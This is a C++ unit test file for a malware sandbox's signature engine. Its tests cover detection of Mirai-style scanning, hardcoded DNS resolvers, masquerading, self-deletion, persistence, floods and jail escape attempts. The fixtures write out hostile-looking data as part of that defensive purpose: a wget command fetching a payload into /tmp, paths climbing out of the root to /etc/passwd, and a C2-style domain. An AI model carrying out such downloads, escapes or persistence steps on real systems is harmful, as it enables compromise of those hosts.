// Signatures, score/verdict and report JSON over hand-built observations (no root, no jail).

#include <csignal>
#include <set>

#include <gtest/gtest.h>

#include "common/event_tap.h"
#include "sandbox/analysis/behaviour_report.h"
#include "sandbox/analysis/signatures.h"
#include "sandbox/jail/seccomp_policy.h"
#include "sandbox/tracer/denied_syscall.h"
#include "sandbox/tracer/observation_recorder.h"

namespace kansoku::sandbox {
namespace {

const SignatureHit* findHit(const BehaviourReport& report, std::string_view id) {
    for (const SignatureHit& hit : report.signatures) {
        if (hit.id == id) {
            return &hit;
        }
    }
    return nullptr;
}

std::vector<uint8_t> dummyPacket() {
    return std::vector<uint8_t>(40, 0);
}

TEST(Signatures, CleanObservationIsClean) {
    BehaviourReport report;
    report.resolvers = {"8.8.8.8"};
    applySignatures(report);
    EXPECT_TRUE(report.signatures.empty());
    EXPECT_EQ(report.score, 0);
    EXPECT_EQ(report.verdict, "clean");
}

TEST(Signatures, ScanNeedsManyDestinations) {
    BehaviourReport report;
    const auto packet = dummyPacket();
    for (int i = 0; i < 20; ++i) {
        report.network.tcp_syn.add(1'000'000 + i * 10'000, *IpAddress::parse("203.0.113.5"), 23, packet);
    }
    report.scan = scanProfile(report.network);
    applySignatures(report);
    EXPECT_EQ(findHit(report, "network_scan"), nullptr) << "one destination is not a scan";

    BehaviourReport sweep;
    for (int i = 0; i < 20; ++i) {
        sweep.network.tcp_syn.add(1'000'000 + i * 10'000, *IpAddress::parse("203.0.113." + std::to_string(i + 1)),
                                  i % 10 == 0 ? 2323 : 23, packet);
    }
    sweep.network.fingerprints[static_cast<size_t>(darknet::ScannerTool::Mirai)] = 20;
    sweep.scan = scanProfile(sweep.network);
    applySignatures(sweep);
    const SignatureHit* hit = findHit(sweep, "network_scan");
    ASSERT_NE(hit, nullptr);
    EXPECT_EQ(hit->mitre, std::vector<std::string>{"T1046"});
    EXPECT_EQ(hit->evidence["tool"], "mirai");
    EXPECT_EQ(hit->evidence["dst_count"], 20);
    EXPECT_EQ(hit->evidence["dst_ports"][0]["port"], 23);
    EXPECT_EQ(hit->evidence["dst_ports"][0]["count"], 18);
    EXPECT_EQ(hit->evidence["dst_ports"][1]["port"], 2323);
}

TEST(Signatures, DnsToUnconfiguredResolverOnly) {
    BehaviourReport report;
    report.resolvers = {"8.8.8.8"};
    fakenet::DnsRecord configured;
    configured.resolver = *IpAddress::parse("8.8.8.8");
    configured.qname = "ok.example";
    report.network.dns.push_back(configured);
    applySignatures(report);
    EXPECT_EQ(findHit(report, "dns_hardcoded_resolver"), nullptr);

    fakenet::DnsRecord hardcoded;
    hardcoded.resolver = *IpAddress::parse("192.0.2.53");
    hardcoded.qname = std::string("cnc.example.test\xff", 17);
    report.network.dns.push_back(hardcoded);
    applySignatures(report);
    const SignatureHit* hit = findHit(report, "dns_hardcoded_resolver");
    ASSERT_NE(hit, nullptr);
    EXPECT_EQ(hit->evidence["queries"][0]["resolver"], "192.0.2.53");
    EXPECT_EQ(hit->evidence["queries"][0]["qname"], "cnc.example.test\\xff");
    EXPECT_NO_THROW((void)report.toJson().dump()); // hostile bytes never break serialisation
}

TEST(Signatures, BusyBoxNamingAnAppletIsNotMasquerading) {
    // A dropped script's `wget`: BusyBox re-executes /proc/self/exe as "wget" and sets its name to it.
    BehaviourReport report;
    Observation& o = report.behaviour;
    ProcessRecord wget{.pid = 7, .parent = 6, .origin = "fork"};
    wget.execs.push_back({.path = "/proc/self/exe", .argv = {"wget", "http://192.0.2.7/x", "-O", "/tmp/y"}});
    o.processes.push_back(wget);
    o.renames.push_back({.pid = 7, .kind = "prctl", .from = "exe", .to = "wget"});
    applySignatures(report);
    EXPECT_EQ(findHit(report, "process_masquerading"), nullptr);
    // The same process naming itself after something else is.
    o.renames.push_back({.pid = 7, .kind = "prctl", .from = "wget", .to = "sshd"});
    report.signatures.clear();
    applySignatures(report);
    ASSERT_NE(findHit(report, "process_masquerading"), nullptr);
    EXPECT_EQ(findHit(report, "process_masquerading")->evidence["renames"].size(), 1u);
}

TEST(Signatures, MiraiStartUpIsMalicious) {
    BehaviourReport report;
    Observation& o = report.behaviour;
    o.self_deleted = true;
    FileActivity unlink{.pid = 2, .op = "unlink", .path = "/tmp/sample", .self_delete = true};
    o.files.push_back(unlink);
    o.renames.push_back({.pid = 2, .kind = "prctl", .from = "sample", .to = "dropbear"});
    o.network.push_back({.pid = 2, .op = "bind", .domain = 2, .address = "127.0.0.1", .port = 48101});
    o.persistence.push_back(
        {.pid = 3, .kind = "cron", .path = "/var/spool/cron/crontabs/root", .op = "create", .result = -30});
    o.persistence.push_back(
        {.pid = 3, .kind = "init_script", .path = "/etc/init.d/S95bot", .op = "create", .result = -30});
    o.files.push_back({.pid = 3, .op = "create", .path = "/etc/init.d/S95bot", .result = -30});
    applySignatures(report);
    ASSERT_NE(findHit(report, "self_deletion"), nullptr);
    EXPECT_EQ(findHit(report, "self_deletion")->mitre, std::vector<std::string>{"T1070.004"});
    ASSERT_NE(findHit(report, "process_masquerading"), nullptr);
    ASSERT_NE(findHit(report, "single_instance_bind"), nullptr);
    EXPECT_EQ(findHit(report, "single_instance_bind")->evidence["port"], 48101);
    const SignatureHit* persistence = findHit(report, "persistence");
    ASSERT_NE(persistence, nullptr);
    EXPECT_EQ(persistence->mitre, (std::vector<std::string>{"T1037.004", "T1053.003"}));
    EXPECT_EQ(findHit(report, "escape_attempt"), nullptr) << "persistence paths are not escape attempts";
    EXPECT_EQ(report.verdict, "malicious");
    EXPECT_EQ(report.score, 100); // 40 + 20 + 10 + 40, capped
}

TEST(Signatures, KillingFloodAndEscape) {
    BehaviourReport report;
    Observation& o = report.behaviour;
    o.signals.push_back({.pid = 2, .call = "kill", .target = 2, .signal = SIGTERM, .target_kind = "self"});
    applySignatures(report);
    EXPECT_EQ(findHit(report, "process_killing"), nullptr) << "a signal to itself is not killing others";
    o.signals.push_back({.pid = 2, .call = "kill", .target = 3, .signal = SIGKILL, .target_kind = "tree"});
    o.network.push_back(
        {.pid = 2, .op = "connect", .domain = 2, .address = "127.0.0.1", .port = 47999, .result = -111});
    o.files.push_back({.pid = 2, .op = "create", .path = "/proc/1/root/etc/passwd-kansoku", .result = -13});
    const auto packet = dummyPacket();
    for (int i = 0; i < 200; ++i) {
        report.network.udp.add(1'000'000 + i * 10'000, *IpAddress::parse("192.0.2.20"), static_cast<uint16_t>(1000 + i),
                               packet);
    }
    applySignatures(report);
    ASSERT_NE(findHit(report, "process_killing"), nullptr);
    const SignatureHit* flood = findHit(report, "network_flood");
    ASSERT_NE(flood, nullptr);
    EXPECT_EQ(flood->evidence["proto"], "udp");
    EXPECT_EQ(flood->mitre, (std::vector<std::string>{"T1498", "T1498.001"}));
    const SignatureHit* escape = findHit(report, "escape_attempt");
    ASSERT_NE(escape, nullptr);
    EXPECT_EQ(escape->evidence["attempts"], 2);
    EXPECT_EQ(escape->evidence["blocked"], 2);
    EXPECT_EQ(escape->evidence["stayed_inside"], 0);
    EXPECT_EQ(escape->evidence["items"][0]["tried"],
              "create /proc/1/root/etc/passwd-kansoku (climbing out of the root)");
    EXPECT_EQ(escape->evidence["items"][0]["outcome"], "blocked");
    EXPECT_EQ(escape->evidence["items"][0]["errno"], 13);
    EXPECT_EQ(escape->evidence["items"][1]["tried"],
              "connect to 127.0.0.1:47999 (a service of the host over loopback)");
    EXPECT_EQ(escape->evidence["items"][1]["outcome"], "blocked");
}

// Issue 16: the ARM report called the unlink of the sample's own file, given as a relative path, an escape
// attempt that succeeded. Whatever the producer resolved (or not), that is self-deletion only.
TEST(Signatures, UnlinkOfOwnFileByRelativePathIsSelfDeletionNotEscape) {
    for (const char* path : {"bot", "./bot", "/tmp/./bot", "/tmp//bot"}) {
        ObservationRecorder recorder("test");
        recorder.processStarted(2, 0, "root");
        recorder.exec(2, "/tmp/bot", {"bot"}, 0);
        recorder.file({.pid = 2, .op = "unlink", .path = path, .result = 0});
        BehaviourReport report;
        report.behaviour = recorder.take();
        applySignatures(report);
        EXPECT_TRUE(report.behaviour.self_deleted) << path;
        const SignatureHit* self = findHit(report, "self_deletion");
        ASSERT_NE(self, nullptr) << path;
        EXPECT_EQ(self->evidence["paths"][0], path);
        EXPECT_EQ(findHit(report, "escape_attempt"), nullptr) << path << " is the sample's own file in /tmp";
    }
    // Relative paths that climb, and other files, are not the executable.
    EXPECT_FALSE(pathNamesFile("../bot", "/tmp/bot"));
    EXPECT_FALSE(pathNamesFile("ot", "/tmp/bot"));
    EXPECT_FALSE(pathNamesFile("/var/run/bot", "/tmp/bot"));
    EXPECT_TRUE(pathNamesFile("/tmp/x/../bot", "/tmp/bot"));
}

TEST(Signatures, EscapeThatStayedInsideIsNeverSucceeded) {
    BehaviourReport report;
    Observation& o = report.behaviour;
    // The sample connects to a listener of its own on the jail's loopback, and unlinks a file of its
    // read-only root whose result a broken producer reported as 0.
    o.network.push_back({.pid = 2, .op = "connect", .domain = 2, .address = "127.0.0.1", .port = 23, .result = 0});
    o.files.push_back({.pid = 2, .op = "unlink", .path = "/bin/busybox", .result = 0});
    o.files.push_back({.pid = 2, .op = "unlink", .path = "../../etc/passwd", .result = -30});
    o.files.push_back({.pid = 2, .op = "create", .path = "drop.sh", .result = 3});        // under its cwd
    o.denied.push_back({.pid = 2, .name = "personality", .args = {"0x8"}, .result = -1}); // not an escape
    o.denied.push_back({.pid = 2, .name = "mount", .args = {"none", "/mnt", "tmpfs", "0x0"}, .result = -1});
    applySignatures(report);
    const SignatureHit* escape = findHit(report, "escape_attempt");
    ASSERT_NE(escape, nullptr);
    const std::string text = escape->evidence.dump();
    EXPECT_EQ(text.find("succeeded"), std::string::npos) << text;
    EXPECT_EQ(escape->evidence["attempts"], 4) << text;
    EXPECT_EQ(escape->evidence["blocked"], 2) << text;
    EXPECT_EQ(escape->evidence["stayed_inside"], 2) << text;
    std::set<std::string> outcomes;
    for (const auto& item : escape->evidence["items"]) {
        outcomes.insert(item["tried"].get<std::string>() + " => " + item["outcome"].get<std::string>());
        EXPECT_TRUE(item["outcome"] == "blocked" || item.contains("inside")) << item.dump();
    }
    EXPECT_EQ(outcomes,
              (std::set<std::string>{"connect to 127.0.0.1:23 (a service of the host over loopback) => stayed_inside",
                                     "unlink /bin/busybox => stayed_inside",
                                     "mount(none, /mnt, tmpfs, 0x0) (refused by the seccomp policy) => blocked",
                                     "unlink ../../etc/passwd (climbing out of the root) => blocked"}));
}

// The tracer lists a refused syscall only if its table knows it: the table must cover the jail's whole policy.
TEST(DeniedSyscalls, TracerTableCoversTheSeccompPolicy) {
    std::set<std::string_view> known;
    for (std::uint64_t nr = 0; nr < 1024; ++nr) {
        if (const DeniedSyscallSpec* spec = deniedSyscallSpec(nr); spec != nullptr) {
            known.insert(spec->name);
        }
    }
    for (const std::string_view name : seccompDeniedSyscalls()) {
        EXPECT_EQ(known.count(name), 1u) << name << " is refused by the policy but unknown to the tracer";
    }
    EXPECT_EQ(known.count("clone"), 1u);
    EXPECT_EQ(known.count("ptrace"), 1u);
}

TEST(BehaviourReport, EventHasTheDocumentedFields) {
    BehaviourReport report;
    report.sha256 = std::string(64, 'a');
    report.arch = "ARM";
    report.network.tcp_syn.add(1'000'000, *IpAddress::parse("203.0.113.9"), 23, dummyPacket());
    report.scan = scanProfile(report.network);
    applySignatures(report);
    const Event event = makeSandboxReportEvent(report, "sensor-1", 5'000'000);
    tapEvent(event); // checked against its schema after the tests
    const auto json = event.toJson();
    EXPECT_EQ(json["type"], "sandbox.report");
    for (const char* key : {"sha256", "arch", "verdict", "score", "signatures", "network", "processes", "files"}) {
        EXPECT_TRUE(json.contains(key)) << key;
    }
    EXPECT_EQ(json["arch"], "ARM");
    EXPECT_EQ(json["network"]["scan"]["proto"], "tcp");
    EXPECT_EQ(json["network"]["scan"]["tool"], "unknown");
    EXPECT_EQ(json["network"]["scan"]["packets"], 1);
    EXPECT_TRUE(json["network"]["dns"].is_array());
}

} // namespace
} // namespace kansoku::sandbox
